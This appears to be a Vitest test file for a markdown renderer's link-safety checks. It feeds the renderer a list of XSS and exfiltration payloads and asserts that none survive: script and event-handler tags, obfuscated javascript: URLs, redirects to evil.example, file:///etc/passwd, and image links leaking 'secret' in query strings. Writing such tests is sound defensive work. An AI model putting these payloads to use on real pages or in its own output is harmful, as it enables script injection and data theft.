import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { destination, doubtAbout, openable } from '../../components/markdown/link-safety';
import { examples, randomDocument } from './documents';
import { Stage } from './stage';
import { installTinyDom, TinyElement } from './tiny-dom';

let uninstall: () => void;
beforeAll(() => (uninstall = installTinyDom()));
afterAll(() => uninstall());

const treeOf = (source: string) => new Stage().add(source).end().tree;

/** Text that would be dangerous in the hands of a renderer that believes it. */
const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<link rel=preconnect href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action=https://evil.example><input name=a></form>',
  '<base href=https://evil.example>',
  '<style>@import url(https://evil.example)</style>',
  '<a href="javascript:alert(1)" id=x name=y style="position:fixed">x</a>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](vbscript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](file:///etc/passwd)',
  '[x](chrome-extension://abc/options.html)',
  '[x](chrome://settings)',
  '[x](blob:https://a.example/1)',
  '[x](about:blank)',
  '[x](/relative)',
  '[x](#fragment)',
  '[x](//evil.example)',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '![x](https://evil.example/?q=secret)',
  '![x][y]\n\n[y]: https://evil.example/?q=secret',
  '![x](//evil.example)',
  '![x](data:image/svg+xml;base64,PHN2Zy8+)',
  '![x](data:text/html;base64,PHN2Zy8+)',
  '![x](javascript:alert(1))',
  '[![x](https://evil.example/i.png)](https://evil.example)',
  '```" onclick="alert(1)\ncode\n```',
  '| <b> | `<i>` |\n|-|-|\n| <script> | ![x](https://evil.example) |',
  '$\\href{javascript:alert(1)}{x}$',
];

const elements = new Set(
  'div p br hr strong em del code pre blockquote ul ol li h3 h4 h5 h6 table thead tbody tr th td a span img button'.split(
    ' ',
  ),
);
const classes = new Set(
  'code code-bar code-name lines part table large note source box done task loose pending inert image formula display left right center keyword string number comment title'.split(
    ' ',
  ),
);

/** Whatever of the tree is not among the elements, classes and attributes a view may make. */
function strange(node: TinyElement): string[] {
  const own: string[] = [];
  if (!elements.has(node.localName)) own.push(`<${node.localName}>`);
  for (const name of node.className.split(' ').filter(Boolean)) if (!classes.has(name)) own.push(`class ${name}`);
  const { href, target, src } = node as { href?: string; target?: string; src?: string };
  if (href !== undefined && !/^(?:https?|mailto):/.test(href)) own.push(`href ${href}`);
  if (href !== undefined && node.localName !== 'a') own.push(`href on ${node.localName}`);
  if (node.localName === 'a' && (target !== '_blank' || Reflect.get(node, 'rel') !== 'noopener noreferrer'))
    own.push('a link that keeps its opener');
  if (src !== undefined && !/^data:image\/(?:png|jpeg|gif|webp);base64,/.test(src)) own.push(`src ${src}`);
  return [...own, ...node.childNodes.flatMap((child) => (child instanceof TinyElement ? strange(child) : []))];
}

describe('a tree holds nothing but what a view may make', () => {
  test.each(attacks)('%s', (source) => {
    const stage = new Stage();
    for (const letter of source) {
      stage.add(letter);
      expect(strange(stage.container)).toEqual([]);
    }
    expect(strange(stage.end().container)).toEqual([]);
  });

  test('nor do the examples of the specification and 500 documents made by chance', () => {
    for (const { source } of examples) expect(strange(new Stage().add(source).end().container), source).toEqual([]);
    for (let seed = 0; seed < 500; seed += 1) {
      const source = randomDocument(seed, { ours: true });
      expect(strange(new Stage().add(source).end().container), source).toEqual([]);
    }
  });

  test('the check itself sees what is strange', () => {
    const bad = new TinyElement('div');
    bad.append(Object.assign(new TinyElement('a'), { href: 'javascript:alert(1)' }), new TinyElement('script'));
    expect(strange(bad)).toEqual(['href javascript:alert(1)', 'a link that keeps its opener', '<script>']);
  });
});

test('HTML shows as text', () => {
  expect(new Stage().add('<b onclick="x()">bold</b> and <script>alert(1)</script>').end().words).toBe(
    '<b onclick="x()">bold</b> and <script>alert(1)</script>',
  );
  expect(treeOf('<div>\n*still read*\n</div>')).toContain('<em>[still read]</em>');
});

test('headings start at the third level', () => {
  expect(treeOf('# a\n\n## b\n\n### c\n\n#### d\n\n##### e')).toMatch(/<h3.*<h4.*<h5.*<h6.*<h6/);
});

test('an image is a button that names its host, unless it is in the text itself', () => {
  expect(treeOf('![A leaf](https://img.example.com:8080/a.png)')).toContain(
    '[A leaf – Image from img.example.com:8080]',
  );
  expect(treeOf('![x](data:image/png;base64,AAAA)')).toContain('<img src="data:image/png;base64,AAAA" alt="x">');
  expect(treeOf(`![x](data:image/png;base64,${'A'.repeat(1_500_000)})`)).not.toContain('<img');
});

test('invisible characters show in code, in what a link says and in where it says it goes, and are copied as they are', () => {
  expect(treeOf('`a\u202Eb`')).toContain('<code>[a⟨U+202E⟩b]</code>');
  expect(treeOf('```\na\u200Bb\n```')).toContain('[a⟨U+200B⟩b\n]');
  expect(treeOf('[pay\u202Epal](https://a.example/)')).toContain('[pay⟨U+202E⟩pal]');
  expect(treeOf('[x](https://a.example/ "t\u2066")')).toContain('title="a.example – t⟨U+2066⟩"');
  expect(treeOf('plain \u200Fטקסט')).toContain('[plain \u200Fטקסט]');
});

describe('where a link may lead', () => {
  test.each([
    ['https://example.org/a', 'https://example.org/a'],
    ['HTTPS://EXAMPLE.org', 'https://example.org/'],
    ['http://localhost:3000/', 'http://localhost:3000/'],
    ['mailto:a@example.org', 'mailto:a@example.org'],
    ['https:evil.example/x', 'https://evil.example/x'],
  ])('%s opens %s', (address, href) => expect(openable(address)?.href).toBe(href));

  test.each([
    'javascript:alert(1)',
    'data:text/html,x',
    'file:///a',
    '/a',
    'a.html',
    '#a',
    '//a.example',
    '',
    'https://',
    'ftp://a.example',
    ' javascript:alert(1)',
  ])('%j opens nothing', (address) => expect(openable(address)).toBeUndefined());

  test('a host is shown as the network knows it', () => {
    expect(destination(new URL('https://аpple.com/'))).toBe('xn--pple-43d.com');
    expect(destination(new URL('https://good.example@evil.example:8443/'))).toBe('evil.example:8443');
    expect(destination(new URL('mailto:a@example.org'))).toBe('a@example.org');
  });

  const code = 'aB3'.repeat(12);
  test.each([
    ['google.com', 'https://evil.example/', 'other-host'],
    ['https://google.com/search', 'https://google.com.evil.example/', 'other-host'],
    ['see www.google.com', 'https://evil.example/', 'other-host'],
    ['click', 'https://google.com@evil.example/', 'other-host'],
    ['click', `https://a.example/?${'word+'.repeat(25)}`, 'carries-data'],
    ['click', `https://a.example/?q=${code}`, 'carries-data'],
    ['click', `https://a.example/${code}`, 'carries-data'],
    ['click', `https://a.example/#${code}`, 'carries-data'],
    ['google.com', 'https://google.com/a', undefined],
    ['google.com', 'https://www.google.com/', undefined],
    ['google.com', 'https://docs.google.com/', undefined],
    ['node.js', 'https://nodejs.org/', undefined],
    ['main.py', 'https://github.com/a/b/blob/main/main.py', undefined],
    ['the notes', 'https://example.org/a-rather-long-title-of-an-article-about-leaves-in-2024', undefined],
    ['a commit', `https://github.com/a/b/commit/${'0a1b2c3d'.repeat(5)}`, undefined],
    ['mail us', 'mailto:a@example.org', undefined],
    ['good.com@evil.example', 'https://evil.example/', 'other-host'],
    ['https://good.com@evil.example', 'https://evil.example/', 'other-host'],
    ['jo.me@example.org', 'mailto:jo.me@example.org', undefined],
    ['contact@firm.de', 'https://firm.de/contact', undefined],
  ])('%s → %s: %s', (text, url, doubt) => expect(doubtAbout(text, new URL(url))).toBe(doubt));
});
